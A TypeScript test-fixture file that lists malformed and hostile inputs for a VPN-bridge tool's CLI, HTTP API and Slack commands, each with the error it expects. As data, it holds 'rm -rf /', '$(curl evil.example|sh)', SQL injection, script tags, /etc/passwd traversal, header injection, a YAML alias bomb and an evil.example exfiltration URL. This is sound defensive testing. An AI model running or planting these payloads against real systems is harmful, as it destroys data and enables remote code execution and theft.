// The bad-input corpus: malformed specs (CLI), API requests (HTTP) and chat commands (Slack, direct invoke),
// each with what the answer must name. Specs are written as edits of a valid spec (the seeded world's
// article spec), so each case breaks exactly one thing.

/** the connection that exists while the corpus runs (bad requests name it; none may touch it) */
export const LIVE = 'live-one';
/** a well-formed name that no connection has */
export const NOBODY = 'no-such-conn';

export interface SpecEdit {
  /** dotted path -> value (intermediate objects are created) */
  set?: Record<string, unknown>;
  /** dotted paths to remove */
  del?: string[];
}

function isObject(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** a deep copy of `base` with the edit applied */
export function edited(base: unknown, edit: SpecEdit): Record<string, unknown> {
  const copy: unknown = JSON.parse(JSON.stringify(base));
  if (!isObject(copy)) throw new Error('the base spec must be an object');
  const parentOf = (path: string): [Record<string, unknown>, string] => {
    const parts = path.split('.');
    const last = parts.pop() ?? '';
    let node = copy;
    for (const p of parts) {
      const next = node[p];
      if (isObject(next)) node = next;
      else {
        const fresh: Record<string, unknown> = {};
        node[p] = fresh;
        node = fresh;
      }
    }
    return [node, last];
  };
  for (const path of edit.del ?? []) {
    const [node, key] = parentOf(path);
    delete node[key];
  }
  for (const [path, value] of Object.entries(edit.set ?? {})) {
    const [node, key] = parentOf(path);
    node[key] = value;
  }
  return copy;
}

const ALIAS_BOMB = [
  'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]',
  'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]',
  'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]',
  'd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]',
  'name: [*d, *d, *d, *d, *d, *d, *d, *d, *d]',
  '',
].join('\n');

// ---------------------------------------------------------------------------------------------------------------
// (a) specs through `vpn-bridge up -f <file> --sim URL`

export interface CliCase {
  title: string;
  /** a spec edit written as YAML (default) or JSON, raw file text, or a path that does not exist */
  input: { edit: SpecEdit; format?: 'yaml' | 'json' } | { text: string } | { missing: true };
  /** schema/file: refused before anything runs; preflight: the ValidateSpec step fails (PreflightFailed) */
  stage: 'schema' | 'preflight';
  /** what the error output must name, every one */
  names: RegExp[];
}

export const CLI_CASES: CliCase[] = [
  { title: 'a name that is a number', input: { edit: { set: { name: 42 } } }, stage: 'schema', names: [/name: /] },
  {
    title: 'an aws block that is a list',
    input: { edit: { set: { aws: ['us-east-1', 'vpc-0123456789abcdef0'] } } },
    stage: 'schema',
    names: [/aws: must be an object with region, vpcId, cidr/],
  },
  {
    title: 'a spec without the alibaba block',
    input: { edit: { del: ['alibaba'] } },
    stage: 'schema',
    names: [/alibaba: is required/],
  },
  {
    title: 'a misspelt top-level field',
    input: { edit: { del: ['onFailure'], set: { onfailure: 'keep' } } },
    stage: 'schema',
    names: [/onfailure: unknown field 'onfailure' \(did you mean 'onFailure'\?\)/],
  },
  {
    title: 'a misspelt nested field',
    input: { edit: { set: { 'aws.vpcID': 'vpc-0123456789abcdef0' } } },
    stage: 'schema',
    names: [/aws\.vpcID: unknown field 'aws\.vpcID' \(did you mean 'vpcId'\?\)/],
  },
  {
    title: 'a CIDR with host bits set',
    input: { edit: { set: { 'aws.cidr': '172.80.64.1/19' } } },
    stage: 'schema',
    names: [/aws\.cidr: has host bits set.*did you mean '172\.80\.64\.0\/19'/],
  },
  {
    title: 'a CIDR prefix out of range',
    input: { edit: { set: { 'aws.cidr': '172.80.64.0/33' } } },
    stage: 'schema',
    names: [/aws\.cidr: .*'172\.80\.64\.0\/33'/],
  },
  {
    title: 'an IPv6 CIDR',
    input: { edit: { set: { 'alibaba.cidr': 'fd00:1234::/48' } }, format: 'json' },
    stage: 'schema',
    names: [/alibaba\.cidr: .*'fd00:1234::\/48'/],
  },
  {
    title: 'overlapping VPC CIDRs',
    input: { edit: { set: { 'alibaba.cidr': '172.80.0.0/16' } } },
    stage: 'schema',
    names: [/alibaba\.cidr: overlaps aws\.cidr 172\.80\.64\.0\/19/],
  },
  {
    title: 'PREPAY without a period',
    input: { edit: { set: { 'alibaba.chargeType': 'PREPAY' } } },
    stage: 'schema',
    names: [/alibaba\.periodMonths: is required when chargeType is PREPAY/],
  },
  {
    title: 'a bandwidth Alibaba does not sell',
    input: { edit: { set: { 'alibaba.bandwidthMbps': 50 } } },
    stage: 'schema',
    names: [/alibaba\.bandwidthMbps: must be one of 10, 100, 200, 500, 1000 \(Mbit\/s\), got 50/],
  },
  {
    title: 'phase-1 DH group 5',
    input: { edit: { set: { 'tunnels.overrides.phase1.dhGroup': 5 } } },
    stage: 'schema',
    names: [/tunnels\.overrides\.phase1\.dhGroup: DH group 5 is not accepted by AWS in phase 1/],
  },
  {
    title: 'an MD5 integrity override',
    input: { edit: { set: { 'tunnels.overrides.phase2.integrity': 'MD5' } } },
    stage: 'schema',
    names: [/tunnels\.overrides\.phase2\.integrity: MD5 is not accepted by AWS/],
  },
  {
    title: 'a YAML alias bomb',
    input: { text: ALIAS_BOMB },
    stage: 'schema',
    names: [/\(document\): YAML aliases expand too much/],
  },
  {
    title: 'flow collections nested 1000 deep',
    input: { text: `${'['.repeat(1000)}${']'.repeat(1000)}\n` },
    stage: 'schema',
    names: [/\(document\): the document is nested too deeply \(more than 64 levels/],
  },
  {
    title: 'block sequences nested 1000 deep on one line',
    input: { text: `${'- '.repeat(1000)}x\n` },
    stage: 'schema',
    names: [/\(document\): the document is nested too deeply \(more than 64 levels/],
  },
  {
    title: 'invalid JSON nested 1000 deep',
    input: { text: `${'{"a":'.repeat(1000)}1${'}'.repeat(999)}\n` },
    stage: 'schema',
    names: [/\(document\): the document is nested too deeply \(more than 64 levels/],
  },
  {
    title: 'a document over 64 KiB',
    input: { text: `name: big-one\n# ${'x'.repeat(70 * 1024)}\n` },
    stage: 'schema',
    names: [/\(document\): the document is \d+ bytes; the limit is 65536 bytes/],
  },
  {
    title: 'JSON with a syntax error',
    input: { text: '{\n  "name": "gdn-china",\n  "aws": {"region": "us-east-1"]\n}\n' },
    stage: 'schema',
    // invalid JSON is read again as YAML (JSON is YAML flow syntax), so the position comes from the YAML parser
    names: [/\(document\): (JSON|YAML) syntax error at line 3, column \d+/],
  },
  {
    title: 'JSON with a value missing, which YAML reads as null',
    input: { text: '{\n  "name": "gdn-china",\n  "aws": ,\n}\n' },
    stage: 'schema',
    names: [
      /aws: must be an object with region, vpcId, cidr, cidrs, attach, routeTableIds, got null/,
      /alibaba: is required/,
    ],
  },
  {
    title: 'a YAML mapping with a duplicate key',
    input: { text: 'name: gdn-china\nname: gdn-other\n' },
    stage: 'schema',
    names: [/\(document\): YAML syntax error at line 2.*Map keys must be unique/],
  },
  {
    title: 'a shell command as the name',
    input: { edit: { set: { name: 'gdn; rm -rf /' } } },
    stage: 'schema',
    names: [/name: must be 3-40 characters/],
  },
  {
    title: 'a name with CR LF and a terminal escape sequence',
    input: { edit: { set: { name: 'gdn\r\n\u001b[2Jerror: none' } }, format: 'json' },
    stage: 'schema',
    names: [/name: must be 3-40 characters.*got 'gdn\\u000d\\u000a\\u001b\[2Jerror: none'/],
  },
  {
    title: 'an unknown field whose key carries a terminal escape sequence',
    input: { edit: { set: { 'x\u001b]0;owned\u0007': 1 } }, format: 'json' },
    stage: 'schema',
    names: [/x\\u001b\]0;owned\\u0007: unknown field/],
  },
  { title: 'an empty file', input: { text: '' }, stage: 'schema', names: [/\(document\): /] },
  { title: 'a file that does not exist', input: { missing: true }, stage: 'schema', names: [/cannot read .*ENOENT/] },
  {
    title: 'an Alibaba region that does not exist',
    input: { edit: { set: { 'alibaba.region': 'xx-nowhere-1' } } },
    stage: 'preflight',
    names: [/alibaba\.region: cannot list the zones of xx-nowhere-1 that offer VPN gateways/],
  },
  {
    title: "an AWS CIDR that is not the VPC's",
    input: { edit: { set: { 'aws.cidr': '10.20.0.0/16' } } },
    stage: 'preflight',
    names: [/aws\.cidr: 10\.20\.0\.0\/16 is not a CIDR of vpc-\w+ \(its CIDRs: 172\.80\.64\.0\/19\)/],
  },
  {
    title: 'VPC ids that do not exist',
    input: { edit: { set: { 'aws.vpcId': 'vpc-0000000000000000f', 'alibaba.vpcId': 'vpc-doesnotexist0000' } } },
    stage: 'preflight',
    names: [/aws\.vpcId: VPC vpc-0000000000000000f not found/, /alibaba\.vpcId: VPC vpc-doesnotexist0000 not found/],
  },
];

// ---------------------------------------------------------------------------------------------------------------
// (b) requests to the HTTP API (real HTTP against `serve()`)

export type HttpBody =
  | { spec: SpecEdit }
  | { json: unknown }
  | { raw: string; contentType?: string }
  /** raw bytes with no content-type header at all */
  | { bytes: string };

export interface HttpCase {
  title: string;
  method: 'GET' | 'POST' | 'DELETE' | 'PUT';
  path: string;
  body?: HttpBody;
  status: number;
  code: string;
  /** paths `error.fields` must list */
  fields?: string[];
  /** must match error.message or one of the field messages */
  says?: RegExp;
}

const spec = (title: string, edit: SpecEdit, fields: string[], says?: RegExp): HttpCase => ({
  title,
  method: 'POST',
  path: '/connections',
  body: { spec: edit },
  status: 400,
  code: 'SpecInvalid',
  fields,
  says,
});

/** schema-valid, but preflight (run by the API before anything is accepted) refuses it: 400 naming the field */
const preflightCase = (title: string, edit: SpecEdit, field: string, says: RegExp): HttpCase => ({
  title,
  method: 'POST',
  path: '/connections',
  body: { spec: edit },
  status: 400,
  code: 'PreflightFailed',
  fields: [field],
  says,
});

export const HTTP_CASES: HttpCase[] = [
  {
    title: 'a body that is not JSON',
    method: 'POST',
    path: '/connections',
    body: { raw: '{"name": "gdn-china",', contentType: 'application/json' },
    status: 400,
    code: 'InvalidJson',
    fields: ['(body)'],
    says: /not valid JSON/,
  },
  {
    title: 'a YAML body',
    method: 'POST',
    path: '/connections',
    body: { raw: 'name: gdn-china\n', contentType: 'application/yaml' },
    status: 415,
    code: 'UnsupportedMediaType',
    says: /must be JSON \(content-type: application\/json\), got 'application\/yaml'/,
  },
  {
    title: 'a JSON body sent as text/plain',
    method: 'POST',
    path: '/connections',
    body: { raw: '{"name": "gdn-china"}', contentType: 'text/plain' },
    status: 415,
    code: 'UnsupportedMediaType',
    says: /got 'text\/plain'/,
  },
  {
    title: 'a body without a content-type',
    method: 'POST',
    path: '/connections',
    body: { bytes: '{"name": "gdn-china"}' },
    status: 415,
    code: 'UnsupportedMediaType',
    says: /got no content-type/,
  },
  {
    title: 'a body over 64 KiB',
    method: 'POST',
    path: '/connections',
    body: { json: { name: 'gdn-china', padding: 'x'.repeat(70 * 1024) } },
    status: 413,
    code: 'PayloadTooLarge',
    says: /at most 65536/,
  },
  {
    title: 'an empty body',
    method: 'POST',
    path: '/connections',
    body: { raw: '', contentType: 'application/json' },
    status: 400,
    code: 'BadRequest',
    fields: ['(body)'],
    says: /needs a JSON body/,
  },
  {
    title: 'a JSON list instead of a spec',
    method: 'POST',
    path: '/connections',
    body: { json: [{ name: 'gdn-china' }] },
    status: 400,
    code: 'SpecInvalid',
    fields: ['(document)'],
    says: /the spec must be a mapping/,
  },
  {
    title: 'a JSON string instead of a spec',
    method: 'POST',
    path: '/connections',
    body: { json: 'gdn-china' },
    status: 400,
    code: 'SpecInvalid',
    fields: ['(document)'],
  },
  spec('a name that is a number', { set: { name: 42 } }, ['name'], /got 42/),
  spec('an aws block that is a string', { set: { aws: 'us-east-1' } }, ['aws'], /must be an object/),
  spec('route table ids that are an object', { set: { 'aws.routeTableIds': { main: 'rtb-1' } } }, [
    'aws.routeTableIds',
  ]),
  spec('a missing aws.vpcId', { del: ['aws.vpcId'] }, ['aws.vpcId'], /is required/),
  spec('an unknown field', { set: { tunnel: { psk: 'generated' } } }, ['tunnel'], /did you mean 'tunnels'\?/),
  spec('a garbage CIDR', { set: { 'aws.cidr': 'ten.zero.zero.zero/8' } }, ['aws.cidr']),
  spec('a /4 CIDR', { set: { 'aws.cidr': '16.0.0.0/4' } }, ['aws.cidr']),
  spec('a link-local CIDR', { set: { 'alibaba.cidr': '169.254.0.0/16' } }, ['alibaba.cidr'], /169\.254\.0\.0\/16/),
  spec('overlapping CIDRs', { set: { 'alibaba.cidr': '172.80.64.0/20' } }, ['alibaba.cidr'], /overlaps aws\.cidr/),
  spec(
    'duplicate route table ids',
    { set: { 'aws.routeTableIds': ['rtb-0123456789abcdef0', 'rtb-0123456789abcdef0'] } },
    ['aws.routeTableIds[1]'],
    /duplicates/,
  ),
  spec('POSTPAY with a period', { set: { 'alibaba.periodMonths': 12 } }, ['alibaba.periodMonths'], /only allowed/),
  spec('PREPAY without a period', { set: { 'alibaba.chargeType': 'PREPAY' } }, ['alibaba.periodMonths']),
  spec('PREPAY with a 10-month period', { set: { 'alibaba.chargeType': 'PREPAY', 'alibaba.periodMonths': 10 } }, [
    'alibaba.periodMonths',
  ]),
  spec('a bandwidth of 7 Mbit/s', { set: { 'alibaba.bandwidthMbps': 7 } }, ['alibaba.bandwidthMbps'], /got 7/),
  spec('an unknown crypto profile', { set: { 'tunnels.profile': 'strongest' } }, ['tunnels.profile']),
  spec('an unknown PSK mode', { set: { 'tunnels.psk': 'typed-by-hand' } }, ['tunnels.psk']),
  spec(
    'a phase-1 lifetime above the AWS maximum',
    { set: { 'tunnels.overrides.phase1.lifetimeSeconds': 86400 } },
    ['tunnels.overrides.phase1.lifetimeSeconds'],
    /AWS accepts at most 28800/,
  ),
  spec(
    'a phase-2 lifetime not shorter than phase 1',
    { set: { 'tunnels.overrides.phase1.lifetimeSeconds': 900, 'tunnels.overrides.phase2.lifetimeSeconds': 3600 } },
    ['tunnels.overrides.phase2.lifetimeSeconds'],
    /must be shorter than the phase-1 lifetime/,
  ),
  spec('AES-GCM encryption', { set: { 'tunnels.overrides.phase1.encryption': 'AES256-GCM-16' } }, [
    'tunnels.overrides.phase1.encryption',
  ]),
  spec(
    'phase-1 DH group 5',
    { set: { 'tunnels.overrides.phase1.dhGroup': 5 } },
    ['tunnels.overrides.phase1.dhGroup'],
    /DH group 5/,
  ),
  spec('an IKE version in upper case', { set: { 'tunnels.overrides.ikeVersion': 'IKEv2' } }, [
    'tunnels.overrides.ikeVersion',
  ]),
  spec('a script tag as the VPC id', { set: { 'aws.vpcId': '<script>alert(1)</script>' } }, ['aws.vpcId']),
  spec('SQL in the region', { set: { 'aws.region': "us-east-1' OR '1'='1" } }, ['aws.region']),
  spec('a command substitution as the name', { set: { name: '$(reboot)' } }, ['name']),
  spec('a Cyrillic lookalike name', { set: { name: 'gdn-\u0441hina' } }, ['name']),
  spec('a 10 000-character name', { set: { name: 'a'.repeat(10_000) } }, ['name']),
  spec('a path-traversal vSwitch id', { set: { 'alibaba.vSwitchIds': ['../../etc/passwd'] } }, [
    'alibaba.vSwitchIds[0]',
  ]),
  spec('an onFailure that is a shell command', { set: { onFailure: 'rm -rf /' } }, ['onFailure']),
  {
    title: 'a __proto__ field',
    method: 'POST',
    path: '/connections',
    body: { raw: '{"__proto__": {"isAdmin": true}, "name": "gdn-china"}', contentType: 'application/json' },
    status: 400,
    code: 'SpecInvalid',
    fields: ['__proto__'],
    says: /unknown field '__proto__'/,
  },
  preflightCase(
    'an Alibaba region that does not exist',
    { set: { 'alibaba.region': 'xx-nowhere-1' } },
    'alibaba.region',
    /cannot list the zones of xx-nowhere-1 that offer VPN gateways/,
  ),
  preflightCase(
    'an AWS region that does not exist',
    { set: { 'aws.region': 'eu-west-9' } },
    'aws.vpcId',
    /VPC vpc-\w+ not found in eu-west-9/,
  ),
  preflightCase(
    "an AWS CIDR that is not the VPC's",
    { set: { 'aws.cidr': '10.20.0.0/16' } },
    'aws.cidr',
    /10\.20\.0\.0\/16 is not a CIDR of vpc-\w+/,
  ),
  preflightCase(
    'vSwitches that are not in the VPC',
    { set: { 'alibaba.vSwitchIds': ['vsw-doesnotexist01', 'vsw-doesnotexist02'] } },
    'alibaba.vSwitchIds[0]',
    /vSwitch vsw-doesnotexist01 not found/,
  ),
  {
    title: 'a drift request whose repair is a string',
    method: 'POST',
    path: `/connections/${LIVE}/drift`,
    body: { json: { repair: 'yes' } },
    status: 400,
    code: 'BadRequest',
    fields: ['repair'],
    says: /must be true or false/,
  },
  {
    title: 'a drift request with an unknown field',
    method: 'POST',
    path: `/connections/${LIVE}/drift`,
    body: { json: { fix: true } },
    status: 400,
    code: 'BadRequest',
    fields: ['fix'],
    says: /unknown field 'fix'/,
  },
  {
    title: 'a drift request that is a list',
    method: 'POST',
    path: `/connections/${LIVE}/drift`,
    body: { json: [true] },
    status: 400,
    code: 'BadRequest',
    fields: ['(body)'],
  },
  {
    title: 'a drift request sent as text/plain',
    method: 'POST',
    path: `/connections/${LIVE}/drift`,
    body: { raw: 'repair=true', contentType: 'text/plain' },
    status: 415,
    code: 'UnsupportedMediaType',
  },
  {
    title: 'a drift request for a name that breaks the naming rule',
    method: 'POST',
    path: '/connections/Live_One/drift',
    status: 400,
    code: 'BadRequest',
    fields: ['name'],
  },
  {
    title: 'a drift request for a connection that does not exist',
    method: 'POST',
    path: `/connections/${NOBODY}/drift`,
    status: 404,
    code: 'NotFound',
    says: new RegExp(`no connection named ${NOBODY}`),
  },
  {
    title: 'a DELETE with a path-traversal name',
    method: 'DELETE',
    path: '/connections/..%2F..%2Fetc%2Fpasswd',
    status: 400,
    code: 'BadRequest',
    fields: ['name'],
  },
  {
    title: 'a DELETE of a connection that does not exist',
    method: 'DELETE',
    path: `/connections/${NOBODY}`,
    status: 404,
    code: 'NotFound',
    says: new RegExp(`no connection named ${NOBODY}`),
  },
  {
    title: 'a GET with a script tag as the name',
    method: 'GET',
    path: '/connections/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    status: 400,
    code: 'BadRequest',
    fields: ['name'],
  },
  {
    title: 'a GET with a 41-character name',
    method: 'GET',
    path: `/connections/a${'b'.repeat(40)}`,
    status: 400,
    code: 'BadRequest',
    fields: ['name'],
  },
  {
    title: 'a GET with CR LF (header injection) in the name',
    method: 'GET',
    path: `/connections/${LIVE}%0D%0AX-Injected:%201`,
    status: 400,
    code: 'BadRequest',
    fields: ['name'],
  },
  {
    title: 'a PUT on the collection',
    method: 'PUT',
    path: '/connections',
    body: { json: {} },
    status: 405,
    code: 'MethodNotAllowed',
    says: /use (GET, POST|POST, GET)/,
  },
];

// ---------------------------------------------------------------------------------------------------------------
// (c) chat commands: Slack-signed requests to the served endpoint, and direct invokes of the command function

export interface SlackCase {
  title: string;
  text: string;
  /** how the request is spoiled beyond its text */
  tamper?: 'forged' | 'stale' | 'unsigned' | 'stranger' | 'oversize' | 'foreign-url';
  status: number;
  /** where the refusal shows: the immediate answer, the reply through response_url, or the log (no details to strangers) */
  where: 'answer' | 'reply' | 'log';
  says: RegExp;
}

export const SLACK_CASES: SlackCase[] = [
  {
    title: 'an unknown verb',
    text: `destroy ${LIVE}`,
    status: 200,
    where: 'answer',
    says: /unknown command `destroy`/,
  },
  { title: 'status without a name', text: 'status', status: 200, where: 'answer', says: /needs a connection name/ },
  {
    title: 'a shell command after the name',
    text: `status ${LIVE}; rm -rf /`,
    status: 200,
    where: 'answer',
    says: /`live-one;` is not a connection name/,
  },
  {
    title: 'a command substitution as the name',
    text: 'up $(curl evil.example|sh)',
    status: 200,
    where: 'answer',
    says: /is not a connection name/,
  },
  {
    title: 'a script tag as the name',
    text: 'status <script>alert(1)</script>',
    status: 200,
    where: 'answer',
    says: /`\?script\?alert\(1\)\?\/script\?` is not a connection name/,
  },
  {
    title: 'SQL after the name',
    text: `status ${LIVE}' OR '1'='1`,
    status: 200,
    where: 'answer',
    says: /is not a connection name/,
  },
  {
    title: 'a path-traversal name',
    text: 'status ../../etc/passwd',
    status: 200,
    where: 'answer',
    says: /`\.\.\/\.\.\/etc\/passwd` is not a connection name/,
  },
  {
    title: 'a Cyrillic lookalike name',
    text: 'status live-\u043ene',
    status: 200,
    where: 'answer',
    says: /is not a connection name/,
  },
  {
    title: 'a name with upper case and an underscore',
    text: 'drift Live_One',
    status: 200,
    where: 'answer',
    says: /is not a connection name/,
  },
  {
    title: 'a down whose confirmation names another connection',
    text: `down ${LIVE} confirm live-two`,
    status: 200,
    where: 'answer',
    says: /does not match `live-one`; nothing was done/,
  },
  {
    title: 'a down with the confirmation word but no name',
    text: `down ${LIVE} confirm`,
    status: 200,
    where: 'answer',
    says: /to confirm, type exactly `\/vpn down live-one confirm live-one`/,
  },
  {
    title: 'a list with extra words',
    text: 'list everything now',
    status: 200,
    where: 'answer',
    says: /too many words for `\/vpn list`/,
  },
  {
    title: 'a 400-character command',
    text: `status ${'x'.repeat(393)}`,
    status: 200,
    where: 'answer',
    says: /the command is too long \(400 characters\)/,
  },
  {
    title: 'up for a connection that does not exist',
    text: `up ${NOBODY}`,
    status: 200,
    where: 'reply',
    says: new RegExp(`no connection named ${NOBODY}`),
  },
  {
    title: 'a confirmed down of a connection that does not exist',
    text: `down ${NOBODY} confirm ${NOBODY}`,
    status: 200,
    where: 'reply',
    says: new RegExp(`no connection named ${NOBODY}`),
  },
  {
    title: 'a forged signature',
    text: `down ${LIVE} confirm ${LIVE}`,
    tamper: 'forged',
    status: 401,
    where: 'log',
    says: /"reason":"bad-signature"/,
  },
  {
    title: 'a replayed request with a stale timestamp',
    text: `down ${LIVE} confirm ${LIVE}`,
    tamper: 'stale',
    status: 401,
    where: 'log',
    says: /"reason":"stale-timestamp"/,
  },
  {
    title: 'an unsigned request',
    text: `down ${LIVE} confirm ${LIVE}`,
    tamper: 'unsigned',
    status: 401,
    where: 'log',
    says: /"reason":"missing-headers"/,
  },
  {
    title: 'a user who is not allow-listed',
    text: `down ${LIVE} confirm ${LIVE}`,
    tamper: 'stranger',
    status: 403,
    where: 'answer',
    says: /You are not allowed to use \/vpn here/,
  },
  {
    title: 'a body over 64 KiB',
    text: `status ${LIVE}`,
    tamper: 'oversize',
    status: 413,
    where: 'answer',
    says: /PayloadTooLarge/,
  },
  {
    title: 'a response_url that is not Slack',
    text: `status ${LIVE}`,
    tamper: 'foreign-url',
    status: 400,
    where: 'log',
    says: /"reason":"response_url not accepted"/,
  },
];

export interface DirectCase {
  title: string;
  event: unknown;
  /** the function's `ok` */
  ok: boolean;
  /** where the refusal shows: the returned text or (for forged worker jobs, which return nothing) the log */
  where: 'text' | 'log';
  says: RegExp;
}

export const DIRECT_CASES: DirectCase[] = [
  {
    title: 'a command without a name',
    event: { command: 'status' },
    ok: false,
    where: 'text',
    says: /needs a connection name/,
  },
  {
    title: 'a name that is a number',
    event: { command: 'status', name: 42 },
    ok: false,
    where: 'text',
    says: /"name" must be a string/,
  },
  {
    title: 'a confirmation that is a number',
    event: { command: 'down', name: LIVE, confirm: 7 },
    ok: false,
    where: 'text',
    says: /"confirm" must be a string/,
  },
  {
    title: 'a confirmation naming another connection',
    event: { command: 'down', name: LIVE, confirm: 'live-two' },
    ok: false,
    where: 'text',
    says: /does not match `live-one`; nothing was done/,
  },
  {
    title: 'a confirmation smuggled into the name',
    event: { command: 'down', name: `${LIVE} confirm ${LIVE}` },
    ok: false,
    where: 'text',
    says: /must be single words/,
  },
  {
    title: 'a shell command as the command',
    event: { command: 'rm -rf /' },
    ok: false,
    where: 'text',
    says: /single words/,
  },
  {
    title: 'an unknown command',
    event: { command: 'shutdown', name: LIVE },
    ok: false,
    where: 'text',
    says: /unknown command `shutdown`/,
  },
  {
    title: 'a command substitution as the name',
    event: { command: 'up', name: '$(reboot)' },
    ok: false,
    where: 'text',
    says: /is not a connection name/,
  },
  {
    title: 'a path-traversal name',
    event: { command: 'drift', name: '../etc' },
    ok: false,
    where: 'text',
    says: /is not a connection name/,
  },
  {
    title: 'a list instead of an object',
    event: ['status', LIVE],
    ok: false,
    where: 'text',
    says: /expected \{"command"/,
  },
  { title: 'null', event: null, ok: false, where: 'text', says: /expected \{"command"/ },
  { title: 'an empty object', event: {}, ok: false, where: 'text', says: /expected \{"command"/ },
  {
    title: 'up for a connection that does not exist',
    event: { command: 'up', name: NOBODY },
    ok: true,
    where: 'text',
    says: new RegExp(`no connection named ${NOBODY}`),
  },
  {
    title: 'a forged worker job with a foreign response_url',
    event: {
      kind: 'slack-command',
      command: { verb: 'down', name: LIVE, confirmed: true },
      responseUrl: 'https://evil.example/collect',
      userId: 'U0001',
    },
    ok: true,
    where: 'log',
    says: /chat job refused: response_url not accepted/,
  },
  {
    title: 'a forged worker job with an injected command',
    event: {
      kind: 'slack-command',
      command: { verb: 'down', name: `${LIVE}; rm -rf /`, confirmed: true },
      responseUrl: 'https://hooks.slack.com/commands/T0001/1/forged',
      userId: 'U0001',
    },
    ok: true,
    where: 'log',
    says: /chat job refused: malformed command/,
  },
];
